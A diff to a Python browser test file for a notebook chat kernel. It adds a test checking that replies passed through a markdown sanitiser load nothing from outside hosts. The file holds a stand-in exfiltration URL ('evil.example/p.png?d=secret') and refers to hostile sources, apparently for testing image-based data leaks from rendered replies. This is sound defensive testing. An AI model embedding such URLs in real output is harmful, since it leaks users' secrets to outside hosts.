@@ -14,6 +14,7 @@ from tests.browser.asking import calling, expect_end, in_mode, ready, tool_resul
 from tests.browser.lab import SHOW_CHAT, Chat, Notebook
 from tests.fakes.provider import FakeProvider, Reply
 from tests.plans.hostile import HARMLESS, LIVE, TEXTS, everywhere, sources
+from whisperer_kernel.markdown import safe_markdown
 from whisperer_kernel.plans.model import Plan
 
 ADDRESS = "evil.example/p.png?d=secret"
@@ -168,6 +169,15 @@ def test_the_page_would_load_them(shared_tab: Notebook, source: str) -> None:
     """Typed by a person each of them asks another machine, so that the next test tests something."""
     with shared_tab.page.expect_request(lambda request: request.url.split("//")[1] in source):
         shared_tab.do(INSERT_AS_A_PERSON, source)
+
+
+def test_nothing_that_was_said_loads(shared_tab: Notebook, shared_elsewhere: list[str]) -> None:
+    """A reply as the notebook keeps it loads nothing, though its mathematics is typeset."""
+    replies = [safe_markdown(source.replace("secret", "said")) for source in LOADING.values()]
+    typeset, *_ = rendered(shared_tab, ["$x$", *replies])
+    assert typeset - HARMLESS
+    shown_for_a_while(shared_tab)
+    assert shared_elsewhere == []
 
 
 def test_no_request_leaves(notebook: Notebook, chat: Chat, provider: FakeProvider, elsewhere: list[str]) -> None:
